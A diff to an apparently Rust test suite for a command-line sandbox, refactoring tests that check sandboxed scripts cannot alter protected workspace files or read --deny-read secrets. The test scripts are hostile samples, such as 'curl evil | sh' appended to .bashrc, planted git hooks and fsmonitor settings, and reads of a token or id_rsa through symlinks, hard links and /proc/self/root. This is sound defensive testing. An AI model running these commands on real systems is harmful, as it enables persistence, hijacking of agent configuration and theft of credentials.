@@ -101,6 +101,35 @@ fn no_write(name: &'static str, script: fn(&Sandbox) -> String) -> Attempt {
     })
 }
 
+/// What `--deny-read` is given in [`no_read`]: a secret file, or a directory holding one as
+/// `id_rsa`.
+enum Denied {
+    File,
+    Dir,
+}
+
+/// With `--deny-read` on a host path holding a secret, `script` (given that path) must not
+/// print the secret.
+fn no_read(name: &'static str, denied: Denied, script: fn(&Path) -> String) -> Attempt {
+    attempt(name, move |sb| {
+        let (path, file) = match denied {
+            Denied::File => (sb.outside.join("token"), sb.outside.join("token")),
+            Denied::Dir => (
+                sb.outside.join("secrets"),
+                sb.outside.join("secrets/id_rsa"),
+            ),
+        };
+        write(&file, "SECRET-VALUE");
+        let o = sb.run(&[
+            "--deny-read",
+            path.to_str().expect("utf-8"),
+            "-c",
+            &script(&path),
+        ]);
+        lacks(&o, "SECRET-VALUE")
+    })
+}
+
 /// A host process (`sleep`) holding a secret in its environment, killed when dropped.
 struct HostProcess(Child);
 
@@ -173,6 +202,47 @@ fn protected_layout(ws: &Path) {
     write(&ws.join(".git/hooks/pre-commit.sample"), "sample\n");
     std::fs::create_dir_all(ws.join(".git/objects")).expect("mkdir");
     write(&ws.join(".vscode/settings.json"), "{}\n");
+}
+
+/// What the workspace holds before a protected-path attempt.
+#[derive(Clone, Copy)]
+enum Layout {
+    Empty,
+    /// See [`protected_layout`].
+    Protected,
+    /// A git repository whose hooks directory does not exist yet.
+    GitWithoutHooks,
+}
+
+/// In a workspace with the protected files of [`protected_layout`], `script` must leave
+/// `path` (relative to the workspace) as it was.
+fn keeps(name: &'static str, script: &'static str, path: &'static str) -> Attempt {
+    attempt(name, move |sb| {
+        protected_layout(&sb.ws);
+        let before = std::fs::read_to_string(sb.ws.join(path)).expect("layout");
+        let o = sb.sh(script);
+        holds(&sb.ws.join(path), &before, &o)
+    })
+}
+
+/// `script` must not leave `path` (relative to the workspace) behind.
+fn leaves_no(
+    name: &'static str,
+    layout: Layout,
+    script: &'static str,
+    path: &'static str,
+) -> Attempt {
+    attempt(name, move |sb| {
+        match layout {
+            Layout::Empty => {}
+            Layout::Protected => protected_layout(&sb.ws),
+            Layout::GitWithoutHooks => {
+                std::fs::create_dir_all(sb.ws.join(".git/objects")).expect("mkdir")
+            }
+        }
+        let o = sb.sh(script);
+        absent(&sb.ws.join(path), &o)
+    })
 }
 
 fn attempts() -> Vec<Attempt> {
@@ -280,36 +350,34 @@ fn attempts() -> Vec<Attempt> {
             }
         }),
         // ---- protected paths inside the workspace ----
-        attempt("append to an existing .bashrc", |sb| {
-            protected_layout(&sb.ws);
-            let o = sb.sh("echo 'curl evil | sh' >> .bashrc");
-            holds(&sb.ws.join(".bashrc"), "# mine\n", &o)
-        }),
-        attempt("append to .git/config", |sb| {
-            protected_layout(&sb.ws);
-            let o = sb.sh("echo '[core] fsmonitor = evil' >> .git/config");
-            holds(&sb.ws.join(".git/config"), "[core]\n", &o)
-        }),
-        attempt("plant a hook in .git/hooks", |sb| {
-            protected_layout(&sb.ws);
-            let o = sb.sh("printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit");
-            absent(&sb.ws.join(".git/hooks/pre-commit"), &o)
-        }),
-        attempt("add an editor task to .vscode", |sb| {
-            protected_layout(&sb.ws);
-            let o = sb.sh("echo '{}' > .vscode/tasks.json");
-            absent(&sb.ws.join(".vscode/tasks.json"), &o)
-        }),
-        attempt("delete .bashrc", |sb| {
-            protected_layout(&sb.ws);
-            let o = sb.sh("rm -f .bashrc");
-            holds(&sb.ws.join(".bashrc"), "# mine\n", &o)
-        }),
-        attempt("rename .git/config away and write a new one", |sb| {
-            protected_layout(&sb.ws);
-            let o = sb.sh("mv .git/config .git/config.old; echo evil > .git/config");
-            holds(&sb.ws.join(".git/config"), "[core]\n", &o)
-        }),
+        keeps(
+            "append to an existing .bashrc",
+            "echo 'curl evil | sh' >> .bashrc",
+            ".bashrc",
+        ),
+        keeps(
+            "append to .git/config",
+            "echo '[core] fsmonitor = evil' >> .git/config",
+            ".git/config",
+        ),
+        leaves_no(
+            "plant a hook in .git/hooks",
+            Layout::Protected,
+            "printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit",
+            ".git/hooks/pre-commit",
+        ),
+        leaves_no(
+            "add an editor task to .vscode",
+            Layout::Protected,
+            "echo '{}' > .vscode/tasks.json",
+            ".vscode/tasks.json",
+        ),
+        keeps("delete .bashrc", "rm -f .bashrc", ".bashrc"),
+        keeps(
+            "rename .git/config away and write a new one",
+            "mv .git/config .git/config.old; echo evil > .git/config",
+            ".git/config",
+        ),
         attempt(
             "rename .git, the parent of protected paths, and refill it",
             |sb| {
@@ -323,28 +391,35 @@ fn attempts() -> Vec<Attempt> {
                 absent(&sb.ws.join(".git2"), &o)
             },
         ),
-        attempt("swap .bashrc for a symlink", |sb| {
-            protected_layout(&sb.ws);
-            let o = sb.sh("rm -f .bashrc; ln -s /tmp/evil .bashrc");
-            holds(&sb.ws.join(".bashrc"), "# mine\n", &o)
-        }),
-        attempt("create a .bashrc that did not exist", |sb| {
-            let o = sb.sh("echo 'curl evil | sh' > .bashrc");
-            absent(&sb.ws.join(".bashrc"), &o)
-        }),
-        attempt("create .git/hooks where there was none", |sb| {
-            std::fs::create_dir_all(sb.ws.join(".git/objects")).expect("mkdir");
-            let o = sb.sh("mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout");
-            absent(&sb.ws.join(".git/hooks"), &o)
-        }),
-        attempt("create .mcp.json", |sb| {
-            let o = sb.sh("echo '{\"mcpServers\":{}}' > .mcp.json");
-            absent(&sb.ws.join(".mcp.json"), &o)
-        }),
-        attempt("create agent settings in .claude", |sb| {
-            let o = sb.sh("mkdir -p .claude && echo '{}' > .claude/settings.json");
-            absent(&sb.ws.join(".claude"), &o)
-        }),
+        keeps(
+            "swap .bashrc for a symlink",
+            "rm -f .bashrc; ln -s /tmp/evil .bashrc",
+            ".bashrc",
+        ),
+        leaves_no(
+            "create a .bashrc that did not exist",
+            Layout::Empty,
+            "echo 'curl evil | sh' > .bashrc",
+            ".bashrc",
+        ),
+        leaves_no(
+            "create .git/hooks where there was none",
+            Layout::GitWithoutHooks,
+            "mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout",
+            ".git/hooks",
+        ),
+        leaves_no(
+            "create .mcp.json",
+            Layout::Empty,
+            "echo '{\"mcpServers\":{}}' > .mcp.json",
+            ".mcp.json",
+        ),
+        leaves_no(
+            "create agent settings in .claude",
+            Layout::Empty,
+            "mkdir -p .claude && echo '{}' > .claude/settings.json",
+            ".claude",
+        ),
         attempt("plant a bare repository in the workspace", |sb| {
             let o = sb.sh(
                 "mkdir -p objects refs/heads && echo 'ref: refs/heads/main' > HEAD && \
@@ -434,75 +509,32 @@ fn attempts() -> Vec<Attempt> {
             absent(&sb.outside.join("planted"), &o)
         }),
         // ---- reading what is denied ----
-        attempt("read a --deny-read file", |sb| {
-            let token = sb.outside.join("token");
-            write(&token, "TOKEN-1");
-            let o = sb.run(&[
-                "--deny-read",
-                token.to_str().expect("utf-8"),
-                "-c",
-                &format!("cat {}", q(&token)),
-            ]);
-            lacks(&o, "TOKEN-1")
+        no_read("read a --deny-read file", Denied::File, |p| {
+            format!("cat {}", q(p))
         }),
-        attempt("read a file in a --deny-read directory", |sb| {
-            let secrets = sb.outside.join("secrets");
-            write(&secrets.join("id_rsa"), "PRIVATE-KEY");
-            let o = sb.run(&[
-                "--deny-read",
-                secrets.to_str().expect("utf-8"),
-                "-c",
-                &format!("cat {}/id_rsa", q(&secrets)),
-            ]);
-            lacks(&o, "PRIVATE-KEY")
+        no_read("read a file in a --deny-read directory", Denied::Dir, |p| {
+            format!("cat {}/id_rsa", q(p))
         }),
-        attempt("copy a --deny-read directory into the workspace", |sb| {
-            let secrets = sb.outside.join("secrets");
-            write(&secrets.join("id_rsa"), "PRIVATE-KEY");
-            let o = sb.run(&[
-                "--deny-read",
-                secrets.to_str().expect("utf-8"),
-                "-c",
-                &format!("cp -r {}/. copy", q(&secrets)),
-            ]);
-            match std::fs::read_to_string(sb.ws.join("copy/id_rsa")) {
-                Ok(c) if c.contains("PRIVATE-KEY") => Err(format!("copied out\n{}", stderr(&o))),
-                _ => Ok(()),
-            }
-        }),
-        attempt("read a --deny-read file through /proc/self/root", |sb| {
-            let token = sb.outside.join("token");
-            write(&token, "TOKEN-2");
-            let o = sb.run(&[
-                "--deny-read",
-                token.to_str().expect("utf-8"),
-                "-c",
-                &format!("cat /proc/self/root{}", token.display()),
-            ]);
-            lacks(&o, "TOKEN-2")
-        }),
-        attempt("read a --deny-read file through a symlink", |sb| {
-            let token = sb.outside.join("token");
-            write(&token, "TOKEN-3");
-            let o = sb.run(&[
-                "--deny-read",
-                token.to_str().expect("utf-8"),
-                "-c",
-                &format!("ln -s {} s; cat s", q(&token)),
-            ]);
-            lacks(&o, "TOKEN-3")
-        }),
-        attempt("hard-link a --deny-read file into the workspace", |sb| {
-            let secrets = sb.outside.join("secrets");
-            write(&secrets.join("id_rsa"), "PRIVATE-KEY");
-            let o = sb.run(&[
-                "--deny-read",
-                secrets.to_str().expect("utf-8"),
-                "-c",
-                &format!("ln {}/id_rsa h; cat h", q(&secrets)),
-            ]);
-            lacks(&o, "PRIVATE-KEY")
-        }),
+        no_read(
+            "copy a --deny-read directory into the workspace",
+            Denied::Dir,
+            |p| format!("cp -r {}/. copy; cat copy/id_rsa", q(p)),
+        ),
+        no_read(
+            "read a --deny-read file through /proc/self/root",
+            Denied::File,
+            |p| format!("cat /proc/self/root{}", p.display()),
+        ),
+        no_read(
+            "read a --deny-read file through a symlink",
+            Denied::File,
+            |p| format!("ln -s {} s; cat s", q(p)),
+        ),
+        no_read(
+            "hard-link a --deny-read file into the workspace",
+            Denied::Dir,
+            |p| format!("ln {}/id_rsa h; cat h", q(p)),
+        ),
         attempt("reach past --allow-read to its denied neighbour", |sb| {
             let secrets = sb.outside.join("secrets");
             write(&secrets.join("id_rsa"), "PRIVATE-KEY");
